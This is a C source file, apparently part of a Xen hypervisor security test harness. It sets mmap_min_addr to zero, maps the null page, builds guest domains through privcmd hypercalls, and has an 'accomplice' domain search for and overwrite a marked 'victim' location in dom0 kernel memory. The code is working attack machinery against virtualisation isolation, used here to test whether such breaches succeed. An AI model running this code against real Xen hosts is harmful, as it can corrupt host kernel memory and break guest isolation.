// SPDX-License-Identifier: GPL-2.0-only
/*
 * What the attacks by contents share: see content.h.
 */
#include "content.h"

#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/mman.h>

#include <xen/hvm/hvm_op.h>
#include <xen/physdev.h>

#include "../privcmd.h"

bool content_seen(bool observed, long result, const char *what)
{
    static char why[100];

    if ( observed || result == -EPERM )
        return seen(observed, "%s%s", observed ? "" : "not so: ", what);

    if ( result < 0 )
        snprintf(why, sizeof(why), "the call failed: %s",
                 strerrorname_np((int)-result));
    else
        snprintf(why, sizeof(why), "Xen took the call, but not so: %s", what);
    return missing(why);
}

bool pretend(uint64_t word)
{
    static const size_t size = 2 * PAGE_SIZE;
    uint64_t *words;

    if ( !write_word("/proc/sys/vm/mmap_min_addr", "0") )
        return false;

    words = mmap(NULL, size, PROT_READ | PROT_WRITE,
                 MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE |
                     MAP_LOCKED,
                 -1, 0);
    if ( words == MAP_FAILED )
        return false;

    for ( size_t i = 0; i < size / sizeof(*words); i++ )
        words[i] = word;
    return true;
}

bool content_accomplice(domid_t domid, xen_pfn_t *frames, unsigned int nr,
                        struct vcpu_guest_context *context)
{
    struct control_op_call *call;

    issue(DOMCTL_CALL(max_mem, domid, .u.max_mem.max_memkb = 1024));
    for ( unsigned int i = 0; i < nr; i++ )
    {
        call = reservation_call(XENMEM_populate_physmap, domid, i);
        issue(call);
        frames[i] = *number_of(call);
    }

    return accomplice_fill(domid, frames, context);
}

long content_set_context(domid_t domid,
                         const struct vcpu_guest_context *context)
{
    struct control_op_call *call = DOMCTL_CALL(setvcpucontext, domid);
    struct xen_domctl *op = structure_of(call);

    attach(call, &op->u.vcpucontext.ctxt, context, sizeof(*context));

    return issue(call);
}

static bool map_interrupt(domid_t domid, int *pirq)
{
    struct control_op_call *map = OP_CALL(
        physdev_op, PHYSDEVOP_map_pirq, struct physdev_map_pirq, .domid = domid,
        .type = MAP_PIRQ_TYPE_GSI, .index = UART_IRQ, .pirq = -1);
    const bool mapped = !issue(map);

    *pirq = ((struct physdev_map_pirq *)structure_of(map))->pirq;
    return mapped;
}

domid_t create_with_interrupt(int *pirq)
{
    struct xen_domctl_createdomain create = { 0 };
    domid_t domid;
    long result;

    describe_domu(&create, DOMU_HVM | XEN_DOMCTL_CDF_iommu);
    create.arch.emulation_flags = XEN_X86_EMU_ALL & ~XEN_X86_EMU_VPCI;
    domid = create_domain(&create, &result);
    if ( domid != DOMID_INVALID &&
         !issue(DOMCTL_CALL(max_vcpus, domid, .u.max_vcpus.max = 1)) &&
         map_interrupt(domid, pirq) )
        return domid;

    end_domain(domid);
    if ( result == -EINVAL )
        pointless("this machine has no IOMMU");
    else
        missing("no domU with an interrupt");
    return DOMID_INVALID;
}

bool give_page(domid_t domid, xen_pfn_t number)
{
    return !issue(DOMCTL_CALL(
               shadow_op, domid,
               .u.shadow_op = { .op = XEN_DOMCTL_SHADOW_OP_SET_ALLOCATION,
                                .mb = 4 })) &&
           !issue(DOMCTL_CALL(max_mem, domid, .u.max_mem.max_memkb = 64)) &&
           issue(reservation_call(XENMEM_populate_physmap, domid, number)) == 1;
}

long set_param(domid_t domid, uint32_t index, uint64_t value)
{
    return issue(OP_CALL(hvm_op, HVMOP_set_param, struct xen_hvm_param,
                         .domid = domid, .index = index, .value = value));
}

/*
 * Where a PVH dom0's frames are in the machine, Xen does not tell. But it gives
 * dom0 memory in pages of 2 MiB, within which the order is the same.
 */
#define FRAMES_2MIB 512

/* @slot: a page of the accomplice's, counted from its window on. */
static bool holds(unsigned int slot, unsigned int offset, const uint32_t *words)
{
    bool same = true;

    for ( unsigned int i = 0; same && i < MARK_SIZE / sizeof(*words); i++ )
    {
        uint32_t word;

        same = accomplice_loads(slot, offset + 4 * i, &word) &&
               word == words[i];
    }

    return same;
}

bool content_overwrites_victim(uint64_t memory_at)
{
    const unsigned int first = (unsigned int)((memory_at - ACCOMPLICE_WINDOW) /
                                              PAGE_SIZE);
    const unsigned int offset = victim() % PAGE_SIZE;
    uint32_t before[MARK_SIZE / 4], mark[MARK_SIZE / 4];
    uint64_t frame = kernel_frame(victim());

    if ( !dom0_is_pv() )
        frame %= FRAMES_2MIB;
    read_victim(before, sizeof(before));
    memcpy(mark, new_mark(), sizeof(mark));
    while ( !holds(first + (unsigned int)frame, offset, before) )
    {
        frame += FRAMES_2MIB;
        if ( frame >= (uint64_t)CONTENT_GIB << 18 )
            return false;
    }
    for ( unsigned int i = 0; i < ARRAY_SIZE(mark); i++ )
        accomplice_stores(first + (unsigned int)frame, offset + 4 * i, mark[i]);

    return victim_has_mark();
}

long dm_op(domid_t domid, struct xen_dm_op *op)
{
    struct xen_dm_op *copy = memcpy(buffer(PAGE_SIZE), op, sizeof(*op));
    struct privcmd_dm_op_buf buf = { .uptr = copy, .size = sizeof(*copy) };
    const struct privcmd_dm_op request = { .dom = domid,
                                           .num = 1,
                                           .ubufs = &buf };
    const int fd = open("/dev/xen/privcmd", O_RDWR | O_CLOEXEC);
    const long result = ioctl(fd, IOCTL_PRIVCMD_DM_OP, &request) ? -errno : 0;

    close(fd);
    *op = *copy;
    return result;
}
